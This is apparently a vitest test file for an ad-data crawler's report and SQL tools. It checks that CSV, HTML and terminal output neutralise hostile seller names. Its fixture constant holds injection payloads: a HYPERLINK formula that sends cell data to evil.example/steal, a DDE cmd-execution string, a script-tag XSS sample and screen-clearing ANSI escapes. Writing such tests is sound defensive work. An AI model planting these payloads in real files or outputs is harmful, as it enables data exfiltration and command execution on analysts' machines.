import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openSnapshotDb } from '../src/sql/snapshot-db.js';
import { buildReport, type ReportJson } from '../src/report/index.js';
import { startSimweb, type Simweb } from '../src/simweb/index.js';
import { repoRoot } from './helpers/corpus.js';
import { runCli } from './helpers/run-cli.js';
import { useTempDirs } from './helpers/tmp.js';

/**
 * Nothing a website writes runs in an analyst's tools. The fixture ad system adsystem-hostile.test
 * (data-samples/simweb-fixtures, crawled from its hostile-domains.txt) lists a seller id `+POOL3`, names that a spreadsheet runs as
 * formulas, a markup name and a name with ANSI escape sequences; pool-site-1/2/3.test claim all
 * five DIRECT, so the report's pooling section lists them. The report's CSVs neutralise them (a
 * leading ' and the cell quoted), report.json and the Parquet tables keep them exactly, `adsnap sql
 * --format csv` is faithful unless --spreadsheet-safe, and terminals get the escapes shown.
 */
const tempDir = useTempDirs('output-safety');
const fixtures = path.join(repoRoot, 'data-samples', 'simweb-fixtures');
const DATE = '2026-11-22';
const ESC = '\u001b';
const HOSTILE = {
  '+POOL3': 'Pool Three',
  'pool-link': '=HYPERLINK("https://evil.example/steal?d="&A1,"Open")',
  'pool-cmd': "-2+3+cmd|' /C calc'!A0",
  'pool-markup': "<script>alert('pool')</script>",
  'pool-ansi': `Plain${ESC}[2J${ESC}]0;owned\u0007${ESC}[31mRed${ESC}[0m`,
} as const;
const ANSI_SHOWN = 'Plain\\x1b[2J\\x1b]0;owned\\x07\\x1b[31mRed\\x1b[0m';

let web: Simweb;
let out: string;
let reportDir: string;
let report: ReportJson;

beforeAll(async () => {
  web = await startSimweb({ hosts: 1, fixturesDir: fixtures, hostile: false });
  out = tempDir();
  const r = await runCli(['crawl', '--domains', path.join(fixtures, 'hostile-domains.txt'), '--out', out, '--snapshot-date', DATE, '--progress', 'none', ...web.connectArgs]);
  expect([r.code, r.stderr]).toEqual([0, '']);
  reportDir = path.join(tempDir(), 'report');
  await buildReport({ roots: [out], outDir: reportDir, now: new Date('2026-11-23T00:00:00Z') });
  report = JSON.parse(await readFile(path.join(reportDir, 'report.json'), 'utf8')) as ReportJson;
}, 120_000);

afterAll(async () => {
  await web?.close();
});

/** A CSV read back by DuckDB, every cell as text. */
async function readCsv(file: string): Promise<Record<string, string | null>[]> {
  const db = await openSnapshotDb(out);
  try {
    return (await db.rows(`SELECT * FROM read_csv('${file.replace(/'/g, "''")}', header = true, all_varchar = true, quote = '"', escape = '"', delim = ',')`)) as Record<string, string | null>[];
  } finally {
    db.close();
  }
}

function pooled(rows: Record<string, unknown>[]): Record<string, unknown>[] {
  return rows.filter((r) => r.ad_system_domain === 'adsystem-hostile.test').sort((a, b) => String(a.seller_account_id).localeCompare(String(b.seller_account_id)));
}

describe('the report over a sellers.json that writes formulas, markup and escape sequences', () => {
  it('report.json keeps every value exactly as published', () => {
    const worst = report.sections.flatMap((s) => s.figures).find((f) => f.key === 'pooling.worst')!;
    const rows = pooled(worst.rows as Record<string, unknown>[]);
    expect(rows.map((r) => [r.seller_account_id, r.seller_name, r.owners])).toEqual(
      Object.entries(HOSTILE)
        .sort(([a], [b]) => a.localeCompare(b))
        .map(([id, name]) => [id, name, 3]),
    );
  });

  it("pooling.worst.csv neutralises every text cell a spreadsheet would run (a leading ' and quoted), and keeps numbers as numbers", async () => {
    const file = path.join(reportDir, 'pooling.worst.csv');
    const text = await readFile(file, 'utf8');
    expect(text).toContain(`"'+POOL3"`);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/steal?d=""&A1,""Open"")"`);
    expect(text).toContain(`"'-2+3+cmd|' /C calc'!A0"`);
    // No cell of any line starts with a formula character unquoted.
    for (const line of text.split('\r\n')) expect(line, line).not.toMatch(/(^|,)[=+\-@\t]/);
    const rows = pooled(await readCsv(file));
    expect(rows.map((r) => [r.seller_account_id, r.seller_name, r.owners, r.sites])).toEqual([
      ["'+POOL3", 'Pool Three', '3', '3'],
      ['pool-ansi', HOSTILE['pool-ansi'], '3', '3'],
      ['pool-cmd', "'" + HOSTILE['pool-cmd'], '3', '3'],
      ['pool-link', "'" + HOSTILE['pool-link'], '3', '3'],
      ['pool-markup', HOSTILE['pool-markup'], '3', '3'],
    ]);
  });

  it('every CSV the report writes has its header line, and none holds an unneutralised formula cell', async () => {
    const figures = report.sections.flatMap((s) => s.figures);
    for (const f of figures) {
      const text = await readFile(path.join(reportDir, `${f.key}.csv`), 'utf8');
      expect(text.split('\r\n')[0], f.key).toBe(f.columns.join(','));
      expect(f.columns.length, f.key).toBeGreaterThan(0);
      for (const line of text.split('\r\n')) expect(line, `${f.key}: ${line}`).not.toMatch(/(^|,)[=+@\t]/);
    }
  });

  it('the page shows the markup name as text, and the escape sequences as escapes', async () => {
    const html = await readFile(path.join(reportDir, 'index.html'), 'utf8');
    expect(html).toContain('&lt;script&gt;alert(&#39;pool&#39;)&lt;/script&gt;');
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain(`<td>${ANSI_SHOWN}</td>`);
    expect(html).not.toContain(ESC);
  });

  it('the Parquet tables keep the exact text', async () => {
    const db = await openSnapshotDb(out);
    try {
      expect(await db.rows(`SELECT subject, status, records FROM files WHERE file_kind = 'sellers.json'`)).toEqual([{ subject: 'adsystem-hostile.test', status: 'ok', records: 5 }]);
      const rows = await db.rows(`SELECT seller_id, name FROM sellers WHERE ad_system_domain = 'adsystem-hostile.test' ORDER BY seller_id`);
      expect(Object.fromEntries(rows.map((r) => [r.seller_id, r.name]))).toEqual(HOSTILE);
    } finally {
      db.close();
    }
  });
});

describe('adsnap sql: faithful CSV by default, --spreadsheet-safe on request, escapes shown on a terminal', () => {
  const query = `SELECT seller_id, name FROM sellers WHERE ad_system_domain = 'adsystem-hostile.test' AND seller_id IN ('+POOL3', 'pool-link', 'pool-cmd') ORDER BY seller_id`;

  it('--format csv writes every value as stored', async () => {
    const r = await runCli(['sql', out, '--format', 'csv', '-c', query]);
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(r.stdout).toBe(
      'seller_id,name\r\n' +
        '+POOL3,Pool Three\r\n' +
        `pool-cmd,-2+3+cmd|' /C calc'!A0\r\n` +
        `pool-link,"=HYPERLINK(""https://evil.example/steal?d=""&A1,""Open"")"\r\n`,
    );
  });

  it("--spreadsheet-safe neutralises the formula-like cells (and only with csv)", async () => {
    const r = await runCli(['sql', out, '--format', 'csv', '--spreadsheet-safe', '-c', query]);
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(r.stdout).toBe(
      'seller_id,name\r\n' +
        `"'+POOL3",Pool Three\r\n` +
        `pool-cmd,"'-2+3+cmd|' /C calc'!A0"\r\n` +
        `pool-link,"'=HYPERLINK(""https://evil.example/steal?d=""&A1,""Open"")"\r\n`,
    );
    const bad = await runCli(['sql', out, '--spreadsheet-safe', '-c', query]);
    expect([bad.code, bad.stderr.split('\n')[0]]).toEqual([2, 'adsnap sql: --spreadsheet-safe applies to --format csv only']);
  });

  it('the table format shows an ANSI escape sequence in a seller name instead of sending it; json keeps it exactly', async () => {
    const q = `SELECT seller_id, name FROM sellers WHERE seller_id = 'pool-ansi'`;
    const table = await runCli(['sql', out, '-c', q]);
    expect(table.code).toBe(0);
    expect(table.stdout).not.toContain(ESC);
    expect(table.stdout).not.toContain('\u0007');
    expect(table.stdout).toContain(`pool-ansi | ${ANSI_SHOWN}`);
    const json = await runCli(['sql', out, '--format', 'json', '-c', q]);
    expect(JSON.parse(json.stdout)).toEqual([{ seller_id: 'pool-ansi', name: HOSTILE['pool-ansi'] }]);
  });

  it("an error message quoting a seller name shows its escapes", async () => {
    const r = await runCli(['sql', out, '-c', `SELECT CAST(name AS INTEGER) FROM sellers WHERE seller_id = 'pool-ansi'`]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(ANSI_SHOWN);
    expect(r.stderr).not.toContain(ESC);
  });
});

describe('adsnap parse --format table', () => {
  it('shows an ANSI escape sequence in an ads.txt line instead of sending it', async () => {
    const r = await runCli(['parse', '--kind', 'ads.txt', '--format', 'table', '-'], {
      input: `adsystem-hostile.test, pool${ESC}[31m-red${ESC}[0m, DIRECT\nadsystem-hostile.test, 1, DIRECT ${ESC}]0;title\u0007\n`,
    });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toContain(ESC);
    expect(r.stdout).not.toContain('\u0007');
    expect(r.stdout).toContain('adsystem-hostile.test, pool\\x1b[31m-red\\x1b[0m, DIRECT');
  });
});
